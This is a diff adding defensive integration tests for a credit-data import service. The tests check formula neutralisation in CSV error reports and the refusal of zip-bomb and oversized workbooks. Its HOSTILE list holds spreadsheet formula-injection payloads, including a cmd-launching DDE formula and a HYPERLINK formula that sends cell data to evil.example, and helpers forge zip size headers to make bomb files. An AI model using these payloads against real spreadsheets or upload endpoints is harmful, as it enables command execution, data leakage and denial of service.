@@ -8,10 +8,13 @@ import csv
 import hashlib
 import io
 import os
+import re
 import signal
 import subprocess
 import sys
 import time
+import zipfile
+from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
@@ -27,6 +30,7 @@ from tests.integration.conftest import MakeDatabase, World, build_world, uscc
 from xinyidai import clock, db
 from xinyidai.audit.models import AuditEntry
 from xinyidai.auth.enums import Role
+from xinyidai.config import get_settings
 from xinyidai.creditdata import imports, service
 from xinyidai.creditdata.enums import Channel
 from xinyidai.creditdata.exceptions import DeliveryRefused, NotTheSource
@@ -487,3 +491,149 @@ def test_two_overlapping_imports_at_once_leave_no_duplicate(fresh_databases: lis
     assert total == distinct == 88_200
     assert sum(stored for stored, _ in outcomes) == 88_200
     assert sum(duplicate for _, duplicate in outcomes) == 29_400
+
+
+HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_the_error_report_never_hands_a_formula_to_a_spreadsheet_on_either_route(
+        session: Session, world: World, client: TestClient) -> None:
+    # Each hostile text as a tax kind (refused: not a known kind), one with a negative amount besides.
+    rows = [payment(f"V{n}", kind=value) for n, value in enumerate(HOSTILE)]
+    rows.append(payment("V-NEG", amount="-2,000.50"))
+    batch = run(session, world, csv_bytes(rows))
+    session.commit()
+    from tests.integration.conftest import login
+
+    login(client, "tax.officer")
+    for route in (f"/api/v1/credit-data/batches/{batch.id}/errors.csv", f"/data/batches/{batch.id}/errors.csv"):
+        headers = _token(session, world.tax_org) if route.startswith("/api/") else {}
+        response = client.get(route, headers=headers)
+        assert response.status_code == 200, response.text
+        got = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+        assert [row[3] for row in got[1:-1]] == ["'" + value for value in HOSTILE], route
+        cells = [cell for row in got for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], route
+        # A negative amount stays the number it is; the report goes back in with the values they were.
+        assert got[-1][1] == "V-NEG" and got[-1][4] == "-2,000.50", route
+    again = run(session, world, response.content)
+    assert again.rows_rejected == len(HOSTILE) + 1
+    originals = [error.original[3] for error in session.scalars(
+        select(ImportRowError).where(ImportRowError.batch_id == again.id).order_by(ImportRowError.row_number))]
+    assert originals[:len(HOSTILE)] == HOSTILE
+
+
+# Upload bombs: each refused whole, with a Chinese message, before the work it would cost ---------------
+
+
+def xlsx_bytes(rows: list[list[object]]) -> bytes:
+    workbook = Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    sheet.append(["uscc", "voucher_no", "tax_period", "tax_kind", "amount", "paid_date"])
+    for row in rows:
+        sheet.append(row)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def _rewritten(xlsx: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
+    """The workbook with one zip member's content changed."""
+    source, out = zipfile.ZipFile(io.BytesIO(xlsx)), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = source.read(info)
+            target.writestr(info, change(data) if info.filename == member else data)
+    return out.getvalue()
+
+
+def _declaring(xlsx: bytes, member: str, size: int) -> bytes:
+    """The workbook with `member`'s uncompressed size in the zip's central directory declared as `size`."""
+    data = bytearray(xlsx)
+    name = member.encode()
+    at = data.find(b"PK\x01\x02")
+    while at != -1:
+        name_length = int.from_bytes(data[at + 28:at + 30], "little")
+        if bytes(data[at + 46:at + 46 + name_length]) == name:
+            data[at + 24:at + 28] = size.to_bytes(4, "little")
+            return bytes(data)
+        at = data.find(b"PK\x01\x02", at + 4)
+    raise AssertionError(member)
+
+
+@pytest.fixture
+def limits(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., None]]:
+    def set_limits(**values: int) -> None:
+        for name, value in values.items():
+            monkeypatch.setenv(f"XINYIDAI_IMPORT_MAX_{name.upper()}", str(value))
+        get_settings.cache_clear()
+
+    yield set_limits
+    get_settings.cache_clear()
+
+
+def _refused(batch: ImportBatch, *fragments: str) -> None:
+    assert batch.status == "rejected", (batch.status, batch.error)
+    for fragment in fragments:
+        assert fragment in (batch.error or ""), batch.error
+    assert batch.columns is None or len(batch.columns) <= 256
+
+
+def test_a_zip_bomb_workbook_is_refused_by_its_declared_size_before_it_is_opened(
+        session: Session, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    bomb = _declaring(xlsx_bytes([[GOOD, "V1", "2026-03", "印花税", 1, "2026-04-15"]]), "xl/worksheets/sheet1.xml",
+                      0xFFFF0000)
+    opened: list[object] = []
+    import openpyxl
+
+    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: opened.append(a))
+    _refused(run(session, world, bomb, name="bomb.xlsx"), "解压后达", "超过512 MB的上限")
+    assert opened == [] and records(session) == 0
+
+
+def test_a_sheet_whose_dimension_claims_millions_of_cells_is_refused_before_its_rows_are_read(
+        session: Session, world: World) -> None:
+    claimed = _rewritten(xlsx_bytes([[GOOD, "V1", "2026-03", "印花税", 1, "2026-04-15"]]), "xl/worksheets/sheet1.xml",
+                         lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml))
+    assert b"A1:XFD1048576" in zipfile.ZipFile(io.BytesIO(claimed)).read("xl/worksheets/sheet1.xml")
+    _refused(run(session, world, claimed, name="claimed.xlsx"), "工作表声明的范围有16384列，超过上限256列")
+    many_rows = _rewritten(xlsx_bytes([[GOOD, "V1", "2026-03", "印花税", 1, "2026-04-15"]]), "xl/worksheets/sheet1.xml",
+                           lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:F9000000"', xml))
+    _refused(run(session, world, many_rows, name="rows.xlsx"), "5,000,000行")
+    # A row reaching out to the last column is refused at that row, never padded out to it.
+    far_cell = b'<c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
+    wide_row = _rewritten(xlsx_bytes([[GOOD, "V1", "2026-03", "印花税", 1, "2026-04-15"]]), "xl/worksheets/sheet1.xml",
+                          lambda xml: re.sub(rb"<dimension [^>]*>", b"", xml).replace(b"</row></sheetData>", far_cell))
+    _refused(run(session, world, wide_row, name="wide.xlsx"), "第2行有16384列")
+    assert records(session) == 0
+
+
+def test_a_csv_header_of_a_hundred_thousand_columns_is_refused_and_not_kept(session: Session, world: World) -> None:
+    wide = csv_bytes([payment("V1")], header=[*HEADER, *(f"列{n}" for n in range(100_000))])
+    batch = run(session, world, wide)
+    _refused(batch, "表头有100006列，超过上限256列")
+    assert batch.columns is None and records(session) == 0
+    # A data row wider than the limit, under a good header, is refused too.
+    _refused(run(session, world, csv_bytes([payment("V1") + ["x"] * 300])), "第2行有306列")
+
+
+def test_size_rows_and_cells_limits_come_from_settings(session: Session, world: World, client: TestClient,
+                                                       limits: Callable[..., None]) -> None:
+    data = csv_bytes([payment(f"V{n}") for n in range(5)])
+    limits(file_bytes=len(data) - 1)
+    _refused(run(session, world, data), "文件过大", "请拆分后分批上传")
+    limits(file_bytes=1 << 20, rows=4)
+    _refused(run(session, world, data), "超过4行数据的上限")
+    limits(rows=100, cells=5 * len(HEADER) - 1)
+    _refused(run(session, world, data), "单元格")
+    limits(cells=5 * len(HEADER), unpacked_bytes=1000)
+    assert run(session, world, data).status == "committed"
+    _refused(run(session, world, xlsx_bytes([[GOOD, "V9", "2026-03", "印花税", 1, "2026-04-15"]]), name="t.xlsx"),
+             "解压后达")
+    # Through the API: 422 with the reason, nothing stored.
+    limits(file_bytes=100)
+    response = client.post("/api/v1/credit-data/tax_payment/files", headers=_token(session, world.tax_org),
+                           files={"file": ("tax.csv", data, "text/csv")})
+    assert response.status_code == 422 and "文件过大" in response.json()["error"], response.text
